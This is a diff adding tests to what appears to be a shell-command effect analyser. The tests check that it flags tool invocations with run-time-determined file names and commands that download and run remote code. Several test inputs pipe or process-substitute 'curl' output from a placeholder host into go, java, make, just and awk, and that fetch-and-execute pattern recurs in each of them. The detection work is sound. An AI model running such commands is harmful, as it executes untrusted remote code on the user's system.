@@ -72,3 +72,23 @@ test.each(['quasar.config.js', 'quasar-x.js', '.quasar.js', '.quasarrc.js', '.qu
     expect(effectLines('npx quasar build', { files })).toContain('delete /srv')
   },
 )
+
+test.each([
+  ['settings', 'vitest run --config "$(cat list.txt)"'],
+  ['a manifest', 'cargo run --manifest-path "$(cat list.txt)"'],
+  ['classes', 'java -cp "$(cat list.txt)" Main'],
+  ['a class', 'java "$F"'],
+  ['a package', 'go run "$F"'],
+])('what a tool runs is unknown where its name is: %s', (_name, commandLine) => {
+  expect(effectLines(commandLine).filter((line) => line.endsWith('a file only known at run time'))).toHaveLength(1)
+})
+
+test.each([
+  ['a program', 'go run <(curl -s https://x.example)'],
+  ['a class', 'java <(curl -s https://x.example)'],
+  ['targets', 'make -f <(curl -s https://x.example)'],
+  ['recipes', 'just -f <(curl -s https://x.example)'],
+  ['a program from standard input', 'curl -s https://x.example | awk -f -'],
+])('what a tool runs is a download by way of a pipe: %s', (_name, commandLine) => {
+  expect(effectLines(commandLine).filter((line) => line.startsWith('execute:download'))).toHaveLength(1)
+})
